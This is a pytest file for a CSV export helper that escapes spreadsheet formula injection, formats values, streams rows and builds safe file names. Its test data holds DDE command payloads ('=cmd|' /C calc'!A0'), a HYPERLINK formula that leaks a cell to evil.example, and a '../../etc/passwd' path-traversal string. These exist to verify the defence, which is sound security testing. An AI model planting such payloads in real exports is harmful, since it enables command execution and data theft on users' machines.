"""CSV export safety: formula-injection escaping, value formatting, streaming, file names."""

from __future__ import annotations

import csv
import enum
import io
import math
import re
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal

import pytest
from defusedcsv import csv as defusedcsv  # type: ignore[import-untyped, unused-ignore]
from django.db import models
from hypothesis import given
from hypothesis import strategies as st

from adoption.csvsafe import (
    BOM,
    FORMULA_TRIGGERS,
    Echo,
    export_filename,
    is_plain_number,
    safe_cell,
    stream_csv,
)
from adoption.forecast import ProgressStatus

# Independent of the module's own tables: what a spreadsheet may read as a formula.
FIRST = set("=+-@|%\t\r\0＝＋－＠")
AFTER_BLANKS = set("=+-@|%＝＋－＠")


def looks_like_formula(cell: str) -> bool:
    return bool(cell) and (cell[0] in FIRST or cell.lstrip()[:1] in AFTER_BLANKS)


def parse(chunks: Iterator[str]) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(chunks).removeprefix(BOM), newline="")))


# --- safe_cell: escaping ----------------------------------------------------------------------


@pytest.mark.parametrize("trigger", sorted(FIRST), ids=repr)
def test_it_escapes_each_formula_trigger(trigger: str) -> None:
    assert safe_cell(trigger + "cmd") == "'" + trigger + "cmd"
    assert safe_cell(trigger) == "'" + trigger


def test_it_knows_the_same_triggers_as_the_tests() -> None:
    assert set(FORMULA_TRIGGERS) == FIRST


@pytest.mark.parametrize(
    "payload",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "=1+1",
        " =1+1",
        "   @SUM(A1)",
        "\n=1+1",
        "\u00a0=1+1",
        "\u3000-1+2",
        "\t-1.5",
        " -1.5",
    ],
)
def test_it_escapes_known_payloads_without_changing_them_otherwise(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload  # no "\|" rewriting, unlike defusedcsv


@pytest.mark.parametrize(
    "text", ["", "payments", "1+1", "a=b", "user@example.com", "'=quoted", "  hello", "Zürich"]
)
def test_it_leaves_harmless_text_alone(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("text", ["-1.5", "-.5", "-7.", "-0", "42", "0.25", "-1234567890123"])
def test_it_leaves_plain_number_strings_alone(text: str) -> None:
    assert is_plain_number(text)
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    "text",
    ["+2", "-3e-4", "+1.5", "-1.5.2", "-1,5", "- 1", "-1e", "-inf", "-0x10", "-\u0663", "-1 ", "-"],
)
def test_it_escapes_minus_and_plus_text_that_is_not_a_plain_number(text: str) -> None:
    assert not is_plain_number(text)
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [0, 42, -3, 10**30, 1.5, -1.5, -0.0, 1e300, Decimal("-2.50"), Decimal("1E+3")]
)
def test_it_keeps_numbers_as_numbers(value: int | float | Decimal) -> None:
    out = safe_cell(value)
    assert out == value
    assert type(out) is type(value)


def test_it_writes_non_finite_numbers_as_escaped_text() -> None:
    assert safe_cell(math.nan) == "nan"
    assert safe_cell(math.inf) == "inf"
    assert safe_cell(-math.inf) == "'-inf"
    assert safe_cell(Decimal("-Infinity")) == "'-Infinity"
    assert safe_cell(Decimal("NaN")) == "NaN"


# --- safe_cell: other types -------------------------------------------------------------------


def test_it_writes_none_as_empty_and_bools_as_words() -> None:
    assert safe_cell(None) == ""
    assert safe_cell(True) == "true"
    assert safe_cell(False) == "false"


def test_it_writes_dates_and_utc_datetimes_in_iso_8601() -> None:
    assert safe_cell(date(2026, 6, 1)) == "2026-06-01"
    cest = timezone(timedelta(hours=2))
    assert safe_cell(datetime(2026, 6, 1, 14, 0, 5, 123456, tzinfo=cest)) == "2026-06-01T12:00:05Z"
    assert safe_cell(datetime(2026, 6, 1, 12, 0, tzinfo=UTC)) == "2026-06-01T12:00:00Z"
    naive = datetime(2026, 6, 1, 12, 0)  # noqa: DTZ001 - naive on purpose: taken as UTC
    assert safe_cell(naive) == "2026-06-01T12:00:00Z"


class Mode(models.TextChoices):
    SIDECAR = "sidecar", "Sidecar"
    ATTACK = "attack", "=cmd|' /C calc'!A0"


class Level(enum.IntEnum):
    LOW = -1


class Colour(enum.Enum):
    RED = "-red"


def test_it_writes_enums_as_their_label_or_else_their_value() -> None:
    assert safe_cell(Mode.SIDECAR) == "Sidecar"
    assert safe_cell(Mode.ATTACK) == "'=cmd|' /C calc'!A0"
    assert safe_cell(ProgressStatus.AT_RISK) == "At risk"
    assert safe_cell(Level.LOW) == -1
    assert safe_cell(Colour.RED) == "'-red"


def test_it_escapes_the_text_of_other_objects_and_bytes() -> None:
    class Evil:
        def __str__(self) -> str:
            return "@evil"

    assert safe_cell(Evil()) == "'@evil"
    assert safe_cell(b"=1+1") == "'=1+1"
    assert safe_cell("Zürich".encode()) == "Zürich"


# --- properties -------------------------------------------------------------------------------

blanks = st.sampled_from(["", " ", "  ", "\t", "\n", "\r", "\r\n", "\u00a0", "\u3000", "\x0b"])
risky_text = st.one_of(
    st.text(),
    st.tuples(blanks, st.sampled_from(sorted(FIRST)), st.text()).map("".join),
    st.tuples(st.sampled_from(["-", "+", ""]), st.floats(allow_nan=False)).map(
        lambda t: t[0] + repr(t[1])
    ),
)


@given(risky_text)
def test_it_never_outputs_a_formula_unless_it_is_a_plain_number(text: str) -> None:
    out = safe_cell(text)
    assert isinstance(out, str)
    assert out in (text, "'" + text)  # the only change is the leading quote
    assert not looks_like_formula(out) or is_plain_number(out)


@given(st.lists(st.lists(risky_text | st.integers() | st.floats(), max_size=5), max_size=5))
def test_it_round_trips_escaped_cells_through_csv_reader(rows: list[list[object]]) -> None:
    parsed = parse(stream_csv(["a", "b", "c", "d", "e"], rows))
    assert parsed[0] == ["a", "b", "c", "d", "e"]
    # csv.reader turns a lone "\r" into a line break only outside quotes; text is always quoted.
    assert len(parsed) == len(rows) + 1
    for row, out in zip(rows, parsed[1:], strict=True):
        assert out == [str(safe_cell(cell)) for cell in row]
        for cell, text in zip(row, out, strict=True):
            if isinstance(cell, int | float) and math.isfinite(cell):
                float(text)  # a number written unquoted, e.g. -1e+16
            else:
                assert not looks_like_formula(text) or is_plain_number(text)


@given(st.lists(risky_text | st.integers() | st.floats(), max_size=6))
def test_it_leaves_nothing_for_defusedcsv_to_change(row: list[object]) -> None:
    cells = [safe_cell(cell) for cell in row]
    plain = csv.writer(Echo(), quoting=csv.QUOTE_NONNUMERIC).writerow(cells)
    defused = defusedcsv.writer(Echo(), quoting=csv.QUOTE_NONNUMERIC).writerow(cells)
    assert defused == plain


# --- stream_csv -------------------------------------------------------------------------------


def test_it_echoes_what_is_written() -> None:
    assert Echo().write("a,b\r\n") == "a,b\r\n"


def test_it_streams_the_bom_then_the_header_then_each_row() -> None:
    chunks = list(stream_csv(["tribe", "meshed"], [["payments", 42], ["=evil", -1.5]]))
    assert chunks == ["\ufeff", '"tribe","meshed"\r\n', '"payments",42\r\n', '"\'=evil",-1.5\r\n']


def test_it_streams_without_a_bom_when_asked() -> None:
    chunks = list(stream_csv(["tribe"], [["payments"]], bom=False))
    assert chunks == ['"tribe"\r\n', '"payments"\r\n']
    assert not "".join(chunks).startswith(BOM)


def test_it_escapes_the_header_too() -> None:
    assert next(stream_csv(["=HYPERLINK()", "-x"], [], bom=False)) == '"\'=HYPERLINK()","\'-x"\r\n'


def test_it_round_trips_escaped_values_and_keeps_numbers_unquoted() -> None:
    rows: list[list[object]] = [
        ["payments", 42, -1.5, "-1.5", None, True, date(2026, 6, 1)],
        ["+cmd", 0, Decimal("3.25"), 'say "hi", then\nleave', "", False, "@x"],
    ]
    parsed = parse(stream_csv(["tribe", "n", "x", "s", "none", "b", "day"], rows))
    assert parsed[1:] == [
        ["payments", "42", "-1.5", "-1.5", "", "true", "2026-06-01"],
        ["'+cmd", "0", "3.25", 'say "hi", then\nleave', "", "false", "'@x"],
    ]
    text = "".join(stream_csv(["n"], [[42], [-1.5]], bom=False))
    assert list(csv.reader(io.StringIO(text), quoting=csv.QUOTE_NONNUMERIC)) == [
        ["n"],
        [42.0],
        [-1.5],
    ]


def test_it_keeps_non_ascii_tribe_names_intact_in_utf_8() -> None:
    names = ["Zürich Öko", "Paiements Société", "支付团队", "Платежи", "🚀 rockets", "-Ωmega"]
    payload = "".join(stream_csv(["tribe"], [[n] for n in names])).encode("utf-8")
    assert payload.startswith(b"\xef\xbb\xbf")
    decoded = payload.decode("utf-8-sig")
    parsed = list(csv.reader(io.StringIO(decoded, newline="")))
    assert [r[0] for r in parsed[1:]] == names[:-1] + ["'-Ωmega"]


def test_it_consumes_rows_lazily() -> None:
    consumed: list[int] = []

    def rows() -> Iterator[list[object]]:
        for i in range(3):
            consumed.append(i)
            yield [i]

    stream = stream_csv(["i"], rows(), bom=False)
    assert next(stream) == '"i"\r\n'
    assert consumed == []
    assert next(stream) == "0\r\n"
    assert consumed == [0]


# --- export_filename --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("scope", "slug"),
    [
        ("payments", "payments"),
        ("Payments & Risk", "payments-risk"),
        ("Zürich Straße", "zurich-strasse"),
        ("Øresund Łódź", "oresund-lodz"),
        ("Crème brûlée / squad 7", "creme-brulee-squad-7"),
        ("../../etc/passwd", "etc-passwd"),
        ("tribe:payments squad=api", "tribe-payments-squad-api"),
        ("支付", "all"),
        ("", "all"),
        ("  --  ", "all"),
        ("x" * 200, "x" * 80),
    ],
)
def test_it_slugs_the_scope_into_the_file_name(scope: str, slug: str) -> None:
    assert export_filename(scope, date(2026, 6, 1)) == f"meshboard-{slug}-2026-06-01.csv"


def test_it_pads_the_date_in_the_file_name() -> None:
    assert export_filename("org", date(987, 3, 4)) == "meshboard-org-0987-03-04.csv"


@given(st.text(), st.dates())
def test_it_always_makes_a_safe_file_name(scope: str, day: date) -> None:
    name = export_filename(scope, day)
    assert re.fullmatch(r"meshboard-[a-z0-9]+(?:-[a-z0-9]+)*-\d{4}-\d{2}-\d{2}\.csv", name)
    assert name.endswith(f"-{day.isoformat()}.csv")
